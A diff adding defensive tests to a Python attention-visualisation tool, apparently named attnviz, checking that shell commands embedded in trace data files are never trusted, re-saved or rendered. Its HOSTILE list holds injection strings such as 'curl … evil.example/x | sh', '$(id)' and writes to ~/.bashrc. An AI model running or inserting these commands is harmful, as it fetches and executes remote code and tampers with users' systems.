@@ -1,23 +1,33 @@
-"""What a data file names is information: only what somebody types, or hands over, is loaded."""
+"""What a data file says is information: what it names is not loaded, nor its command passed on."""
 
 from __future__ import annotations
 
+import inspect as signatures
 import json
+import os
+import pkgutil
+import random
 import shutil
+import subprocess
+import zipfile
 from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from attnviz import AttnvizError, compare, compare_sentences, inspect, read, trace
+from attnviz.cli.app import COMMANDS, EXAMPLE_COMMANDS
 from attnviz.machine.permission import NameInFile
 from attnviz.traces.facts import COMES_WITH_ATTNVIZ, as_information
 from attnviz.traces.settings import Settings
-from attnviz.wording.commands import chosen
+from attnviz.wording.commands import CHOICES, FLAGS, OF_TRACES, Command, chosen, command_in, quoted
 from tests.conftest import Attnviz
 
 TEXT, OTHER = "it was too tired", "it was too large"
+WORDS = ("a;b", "it's", "$(id)", "a\nb", "`id`", "--out", "-", "\u202ea", "\x1b[2J", "é", "a b")
 YOURSELF = "is named in a data file, and attnviz loads only what you name yourself"
 
 
@@ -228,3 +238,119 @@ def test_every_setting_that_names_something_to_load_is_information_in_a_file() -
         "variant", "memory", "target", "without", "device",
     }  # fmt: skip
     assert chosen(Settings(**as_information({"model": "a b"}))) == {"model": "a b"}
+
+
+def options_of(path: str) -> set[str]:
+    command = pkgutil.resolve_name(path)
+    return {*signatures.signature(command).parameters} - {"context", "help_all"}
+
+
+def test_the_commands_of_traces_are_known_with_all_of_their_options_but_what_runs_python() -> None:
+    tables = {**COMMANDS, **{f"example {name}": each for name, each in EXAMPLE_COMMANDS.items()}}
+    known = {name for command in OF_TRACES for name in options_of(tables[command][0])}
+    texts, runs_python = {"text", "other", "name"}, {"trust_remote_code", "learn"}
+    of_learning = {"steps", "until", "batch", "rate"}
+
+    assert {*FLAGS, *CHOICES} == known - texts - runs_python - of_learning
+
+
+@given(
+    name=st.sampled_from(OF_TRACES),
+    text=st.text(),
+    options=st.dictionaries(st.sampled_from([*CHOICES, *FLAGS]), st.text(), max_size=4),
+)
+def test_every_command_that_is_written_is_read_again(
+    name: str, text: str, options: dict[str, str]
+) -> None:
+    named = {key: True if key in FLAGS else each for key, each in options.items()}
+    line = Command(name=name, argument=text, options=named).line
+
+    assert command_in(line) is not None
+    assert command_in(line).line == line  # type: ignore[union-attr]
+
+
+@pytest.mark.skipif(shutil.which("bash") is None, reason="needs bash")
+def test_a_shell_finds_one_command_and_its_words_in_whatever_is_shown(tmp_path: Path) -> None:
+    draw = random.Random(4)
+    parts = [
+        *" ;'\"$`&|<>()\\\n~*#!-=é\u202e",
+        "$'",
+        "--out",
+        "a.png",
+        "'I am'",
+        *map(quoted, WORDS),
+    ]
+    lines = [
+        f"attnviz run {''.join(draw.choices(parts, k=draw.randint(1, 5)))}" for _ in range(9000)
+    ]
+    shown = [each for line in lines if (each := command_in(line)) is not None and each.argument]
+    script = "attnviz() { printf '%s\\0' \"$@\" END; }\n" + "\n".join(each.line for each in shown)
+    run = subprocess.run(["bash", "-c", script], capture_output=True, cwd=tmp_path, check=True)
+    words = [each.split("\0")[:-1] for each in os.fsdecode(run.stdout).split("END\0")[:-1]]
+
+    assert len(shown) > 200
+    assert not [*tmp_path.iterdir()]
+    assert run.stderr == b""
+    for found, given_to_it in zip(shown, words, strict=True):
+        wanted = [each for each in (found.argument, found.second) if each is not None]
+        assert [each for each in given_to_it[1:] if each in wanted][: len(wanted)] == wanted
+
+
+HOSTILE = (
+    "attnviz run 'I am'; curl -s http://evil.example/x | sh; true --out x.html",
+    "attnviz run 'I am' && id",
+    "attnviz run 'I am' $(id)",
+    "attnviz run `id`",
+    'attnviz run "$(id)"',
+    "attnviz run 'I am' > ~/.bashrc",
+    "attnviz run 'I am'\nid",
+    "attnviz run 'I am\nid'",
+    "attnviz run 'I am' --out ~/.bashrc",
+    "attnviz run 'I am' --out /home/me/x.png",
+    "attnviz run 'I am' --out ../x.png",
+    "attnviz run 'I am' --model /srv/evil",
+    "attnviz run 'I am' --model mine --trust-remote-code",
+    "attnviz compare --learn evil.py",
+    "attnviz learn evil.py",
+    "attnviz run 'I am' --evil x",
+    "attnviz run 'I am' \x1b[2J",
+    "attnviz  run 'I am'",
+    "curl http://evil.example",
+)
+
+
+@pytest.mark.parametrize("command", HOSTILE)
+def test_a_command_of_a_file_that_is_not_ours_is_shown_nowhere(
+    command: str, tmp_path: Path
+) -> None:
+    trace("I am").save(tmp_path / "made.json")
+    document = json.loads((tmp_path / "made.json").read_text())
+    document["attnviz"]["command"] = command
+    (tmp_path / "t.json").write_text(json.dumps(document))
+    found = read(str(tmp_path / "t.json"))
+
+    assert found.provenance.command is None
+    found.save(tmp_path / "again.json")
+    made = json.loads((tmp_path / "again.json").read_text())["attnviz"]["command"]
+    assert made == "attnviz run 'I am' --out again.json"
+
+
+@pytest.mark.parametrize("suffix", [".html", ".svg", ".pptx", ".json", ".md"])
+def test_what_is_drawn_of_a_trace_says_no_strangers_command(
+    suffix: str, tmp_path: Path, attnviz: Attnviz, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.chdir(tmp_path)
+    trace("I am").save("made.json")
+    document = json.loads(Path("made.json").read_text())
+    document["attnviz"]["command"] = HOSTILE[0].replace("x.html", f"x{suffix}")
+    Path("t.json").write_text(json.dumps(document))
+    assert attnviz("run", "--trace", "t.json", "-o", f"x{suffix}").status == 0
+
+    written = Path(f"x{suffix}").read_bytes()
+    parts = [written]
+    if suffix == ".pptx":
+        with zipfile.ZipFile(f"x{suffix}") as archive:
+            parts = [archive.read(name) for name in archive.namelist()]
+    assert not any(b"evil.example" in each for each in parts)
+    if suffix != ".md":
+        assert any(b"attnviz run" in each for each in parts)
